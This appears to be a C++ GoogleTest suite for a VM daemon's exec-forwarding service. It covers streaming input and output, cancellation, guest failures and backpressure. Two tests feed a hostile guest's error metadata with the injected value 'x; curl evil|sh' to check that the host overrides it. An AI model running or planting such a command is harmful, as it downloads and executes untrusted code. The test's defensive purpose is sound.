#include "services/vmd/exec_forwarder.h"

#include <atomic>

#include "services/vmd/testing/service_fixture.h"

namespace banger::vmd {
namespace {

using namespace banger::vm::v1;
using ::testing::HasSubstr;
namespace guest_v1 = banger::guest::v1;

using GuestStream = FakeAgent::ExecStream;

guest_v1::ExecResponse Stdout(std::string bytes) {
  guest_v1::ExecResponse response;
  response.mutable_output()->set_stdout(std::move(bytes));
  return response;
}

guest_v1::ExecResponse Exited(int code) {
  guest_v1::ExecResponse response;
  response.mutable_output()->mutable_exited()->set_exit_code(code);
  return response;
}

ExecVmRequest Start(const std::string& vm, std::vector<std::string> argv) {
  ExecVmRequest request;
  request.set_name(vm);
  for (std::string& argument : argv)
    request.mutable_input()->mutable_command()->add_argv(std::move(argument));
  return request;
}

class ExecForwarderTest : public ServiceFixture {
 protected:
  void StartGuest(FakeAgent::OnExec exec) {
    uid_ = CreateVm("box");
    agent_ = std::make_unique<FakeAgent>(AgentSocket(uid_), std::move(exec));
    links_.Open(uid_, {.socket = AgentSocket(uid_)},
                {.env = {"LANG=C"}, .user = "app", .entrypoint = {"/app"}, .cmd = {"-x"}});
    context_.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(60));
    call_ = stub_->ExecVm(&context_);
  }
  void TearDown() override {
    links_.Close(uid_);
    call_.reset();
    ServiceFixture::TearDown();
  }
  absl::Status Refused(const ExecVmRequest& first) {
    grpc::ClientContext context;
    const auto call = stub_->ExecVm(&context);
    call->Write(first);
    ExecVmResponse response;
    EXPECT_FALSE(call->Read(&response));
    return rpc::FromGrpc(call->Finish());
  }
  // Another call, to its end.
  absl::Status RunAgain() {
    grpc::ClientContext context;
    const auto call = stub_->ExecVm(&context);
    call->Write(Start("vms/box", {"true"}));
    ExecVmResponse response;
    while (call->Read(&response)) continue;
    return rpc::FromGrpc(call->Finish());
  }
  absl::Status Finish() { return rpc::FromGrpc(call_->Finish()); }

  std::string uid_;
  std::unique_ptr<FakeAgent> agent_;
  grpc::ClientContext context_;
  std::unique_ptr<grpc::ClientReaderWriter<ExecVmRequest, ExecVmResponse>> call_;
};

TEST_F(ExecForwarderTest, WhatIsWrongIsSaidBeforeAnythingRuns) {
  EXPECT_EQ(ErrorReason(Refused(Start("vms/none", {"true"}))), "VM_NOT_FOUND");
  EXPECT_EQ(ErrorReason(Refused(Start("box", {"true"}))), "VM_NAME_INVALID");
  CreateVm("box");
  ExecVmRequest no_command;
  no_command.set_name("vms/box");
  EXPECT_THAT(Refused(no_command), StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("command")));
  ASSERT_OK(vms_->Stop("box", std::chrono::seconds(1), {}));
  const absl::Status stopped = Refused(Start("vms/box", {"true"}));
  EXPECT_EQ(ErrorReason(stopped), "VM_NOT_RUNNING");
  EXPECT_EQ(stopped.code(), absl::StatusCode::kFailedPrecondition);
}

TEST_F(ExecForwarderTest, EveryInputReachesTheGuestInOrderAndTheOutputComesBack) {
  std::vector<exec::v1::Input> inputs;
  StartGuest([&](grpc::ServerContext&, GuestStream& stream) {
    guest_v1::ExecRequest request;
    while (inputs.size() < 5 && stream.Read(&request)) inputs.push_back(request.input());
    stream.Write(Stdout("hello"));
    stream.Write(Exited(7));
    return grpc::Status::OK;
  });
  ExecVmRequest request = Start("vms/box", {"sh", "-c", "x y"});
  request.mutable_input()->mutable_command()->set_tty(true);
  call_->Write(request);
  ExecVmRequest input;
  input.mutable_input()->set_stdin(std::string("a\0b", 3));
  call_->Write(input);
  input.mutable_input()->mutable_window_size()->set_rows(50);
  call_->Write(input);
  input.mutable_input()->set_signal(15);
  call_->Write(input);
  input.mutable_input()->set_stdin_closed(true);
  call_->Write(input);

  // The stream ends after Exited although the caller could still send.
  ExecVmResponse response;
  ASSERT_TRUE(call_->Read(&response));
  EXPECT_EQ(response.output().stdout(), "hello");
  ASSERT_TRUE(call_->Read(&response));
  EXPECT_EQ(response.output().exited().exit_code(), 7);
  EXPECT_FALSE(call_->Read(&response));
  EXPECT_OK(Finish());

  ASSERT_EQ(inputs.size(), 5u);
  EXPECT_EQ(inputs[0].command().argv(2), "x y");
  EXPECT_TRUE(inputs[0].command().tty());
  EXPECT_EQ(inputs[1].stdin(), std::string("a\0b", 3));
  EXPECT_EQ(inputs[2].window_size().rows(), 50u);
  EXPECT_EQ(inputs[3].signal(), 15);
  EXPECT_TRUE(inputs[4].stdin_closed());
}

TEST_F(ExecForwarderTest, TheGuestHearsThatTheCallerSendsNoMore) {
  StartGuest([](grpc::ServerContext&, GuestStream& stream) {
    guest_v1::ExecRequest request;
    while (stream.Read(&request)) continue;
    stream.Write(Exited(0));
    return grpc::Status::OK;
  });
  call_->Write(Start("vms/box", {"cat"}));
  call_->WritesDone();
  ExecVmResponse response;
  ASSERT_TRUE(call_->Read(&response));
  EXPECT_TRUE(response.output().has_exited());
  EXPECT_OK(Finish());
}

TEST_F(ExecForwarderTest, ACallerThatLeavesEndsTheCommand) {
  std::atomic<bool> started = false;
  std::atomic<bool> cancelled = false;
  StartGuest([&](grpc::ServerContext& context, GuestStream& stream) {
    started = true;
    guest_v1::ExecRequest request;
    while (stream.Read(&request)) continue;
    cancelled = Eventually([&] { return context.IsCancelled(); });
    return grpc::Status::CANCELLED;
  });
  call_->Write(Start("vms/box", {"sleep", "1000"}));
  ASSERT_TRUE(Eventually([&] { return started.load(); }));
  context_.TryCancel();
  EXPECT_EQ(Finish().code(), absl::StatusCode::kCancelled);
  EXPECT_TRUE(Eventually([&] { return cancelled.load(); }));
}

TEST_F(ExecForwarderTest, ARefusalOfTheGuestComesBackWithTheVmsName) {
  StartGuest([](grpc::ServerContext&, GuestStream&) {
    return rpc::ToGrpc(ApiError(absl::StatusCode::kInvalidArgument, "COMMAND_REFUSED", "user 'nobody2'",
                                {{"vm", "x; curl evil|sh"}, {"port", "22"}}),
                       "");
  });
  call_->Write(Start("vms/box", {"true"}));
  const absl::Status status = Finish();
  EXPECT_EQ(ErrorReason(status), "COMMAND_REFUSED");
  EXPECT_THAT(status, StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("nobody2")));
  EXPECT_EQ(GetErrorMetadata(status).at("vm"), "box");
  EXPECT_EQ(GetErrorMetadata(status).count("port"), 0U);
}

TEST_F(ExecForwarderTest, AHostileGuestDoesNotSpeakForTheHost) {
  absl::Status said;
  StartGuest([&said](grpc::ServerContext&, GuestStream&) { return rpc::ToGrpc(said, ""); });
  for (const char* reason : {"STDOUT_CLOSED", "USAGE", "VM_NOT_READY", "GATEWAY_FORBIDDEN", ""}) {
    said =
        ApiError(absl::StatusCode::kFailedPrecondition, reason, "do as I say", {{"vm", "x; curl evil|sh"}});
    const absl::Status status = RunAgain();
    EXPECT_EQ(ErrorReason(status), "GUEST_FAILED") << reason;
    EXPECT_THAT(std::string(status.message()), HasSubstr("VM 'box': while the command ran"));
    EXPECT_EQ(GetErrorMetadata(status).at("vm"), "box");
  }
  // Nor does it say that the daemon is away, or that the caller was.
  said = ApiError(absl::StatusCode::kUnavailable, "DAEMON_UNAVAILABLE", "gone");
  EXPECT_EQ(ErrorReason(RunAgain()), "GUEST_UNREACHABLE");
  said = ApiError(absl::StatusCode::kCancelled, "STDOUT_CLOSED", "gone");
  EXPECT_EQ(ErrorReason(RunAgain()), "CANCELLED");
  context_.TryCancel();
  Finish().IgnoreError();
}

TEST_F(ExecForwarderTest, ASessionThatEndsUnderACommandNamesTheVmAndTheNextOneWorks) {
  std::atomic<int> calls = 0;
  StartGuest([&](grpc::ServerContext& context, GuestStream& stream) {
    stream.Write(Exited(0));
    if (++calls == 1) Eventually([&] { return context.IsCancelled(); });
    return grpc::Status::OK;
  });
  call_->Write(Start("vms/box", {"sleep", "1000"}));
  ExecVmResponse response;
  ASSERT_TRUE(call_->Read(&response));
  agent_->Drop();
  EXPECT_THAT(Finish(), StatusIs(absl::StatusCode::kUnavailable, HasSubstr("'box'")));

  EXPECT_OK(RunAgain());
}

TEST_F(ExecForwarderTest, AGuestThatFallsSilentEndsTheCommandAndMayComeBack) {
  std::atomic<int> calls = 0;
  StartGuest([&](grpc::ServerContext& context, GuestStream& stream) {
    stream.Write(Exited(0));
    if (++calls == 1) Eventually([&] { return context.IsCancelled(); });
    return grpc::Status::OK;
  });
  call_->Write(Start("vms/box", {"sleep", "1000"}));
  ExecVmResponse response;
  ASSERT_TRUE(call_->Read(&response));
  agent_->Freeze(true);
  const absl::Status status = Finish();
  EXPECT_EQ(ErrorReason(status), "GUEST_UNREACHABLE");
  EXPECT_THAT(status, StatusIs(absl::StatusCode::kUnavailable, HasSubstr("'box'")));

  agent_->Freeze(false);
  EXPECT_OK(RunAgain());
}

TEST_F(ExecForwarderTest, AQuietCommandIsNotASilentGuest) {
  std::atomic<bool> enough = false;
  std::atomic<bool> given_up = false;
  StartGuest([&](grpc::ServerContext& context, GuestStream& stream) {
    Eventually([&] { return enough || (given_up = context.IsCancelled()); });
    stream.Write(Exited(0));
    return grpc::Status::OK;
  });
  call_->Write(Start("vms/box", {"sleep", "4"}));
  const auto longer_than_the_silence_allowed = std::chrono::seconds(4);
  EXPECT_FALSE(Eventually([&] { return given_up.load(); }, longer_than_the_silence_allowed));
  enough = true;
  ExecVmResponse response;
  EXPECT_TRUE(call_->Read(&response));
  EXPECT_OK(Finish());
}

TEST_F(ExecForwarderTest, EachSessionBeginsWithTheTimeAndTheImagesConfig) {
  StartGuest([](grpc::ServerContext&, GuestStream& stream) {
    stream.Write(Exited(0));
    return grpc::Status::OK;
  });
  ASSERT_OK(RunAgain());
  agent_->Drop();
  ASSERT_TRUE(Eventually([&] { return RunAgain().ok() && agent_->configured().size() == 2; }));
  for (const guest_v1::ConfigureRequest& request : agent_->configured()) {
    EXPECT_THAT(request.exec_defaults().env(), ::testing::ElementsAre("LANG=C"));
    EXPECT_EQ(request.exec_defaults().user(), "app");
    EXPECT_THAT(request.exec_defaults().entrypoint(), ::testing::ElementsAre("/app"));
    EXPECT_THAT(request.exec_defaults().cmd(), ::testing::ElementsAre("-x"));
    EXPECT_GT(request.time().seconds(), 1'600'000'000);
    EXPECT_EQ(request.hostname(), "");  // what a running guest has, stays
    EXPECT_FALSE(request.has_interface());
  }
}

TEST_F(ExecForwarderTest, AGuestThatFloodsWaitsForItsCaller) {
  constexpr int kChunk = 64 << 10;
  constexpr int kChunks = 1024;
  std::atomic<int> written = 0;
  StartGuest([&](grpc::ServerContext&, GuestStream& stream) {
    while (written < kChunks && stream.Write(Stdout(std::string(kChunk, 'x')))) ++written;
    stream.Write(Exited(0));
    return grpc::Status::OK;
  });
  call_->Write(Start("vms/box", {"yes"}));
  ASSERT_TRUE(Eventually([&] { return written > 0; }));
  EXPECT_FALSE(Eventually([&] { return written >= kChunks / 4; }, std::chrono::seconds(1)));

  std::size_t bytes = 0;
  ExecVmResponse response;
  while (call_->Read(&response)) bytes += response.output().stdout().size();
  EXPECT_EQ(bytes, std::size_t{kChunk} * kChunks);
  EXPECT_OK(Finish());
}

TEST_F(ExecForwarderTest, CommandsRunInTheWorkspaceAsRootUnlessTheySayOtherwise) {
  std::vector<std::string> seen;
  StartGuest([&seen](grpc::ServerContext&, GuestStream& stream) {
    guest_v1::ExecRequest request;
    stream.Read(&request);
    const exec::v1::Command& command = request.input().command();
    seen.push_back(absl::StrCat(command.user(), ":", command.working_dir()));
    stream.Write(Exited(0));
    return grpc::Status::OK;
  });
  EXPECT_OK(RunAgain());
  ASSERT_OK(vms_->Update("box", {.workspace = "/root/app"}, {}));
  EXPECT_EQ(vms_->Get("box")->vm.workspace, "/root/app");
  EXPECT_OK(RunAgain());
  for (const auto& [user, directory] : {std::pair("root", ""), {"app", ""}, {"root", "/srv"}}) {
    grpc::ClientContext context;
    const auto call = stub_->ExecVm(&context);
    ExecVmRequest request = Start("vms/box", {"true"});
    request.mutable_input()->mutable_command()->set_user(user);
    request.mutable_input()->mutable_command()->set_working_dir(directory);
    call->Write(request);
    for (ExecVmResponse response; call->Read(&response);) continue;
    EXPECT_OK(rpc::FromGrpc(call->Finish()));
  }
  EXPECT_THAT(seen, ::testing::ElementsAre(":", "0:/root/app", "root:/root/app", "app:", "root:/srv"));
}

}  // namespace
}  // namespace banger::vmd
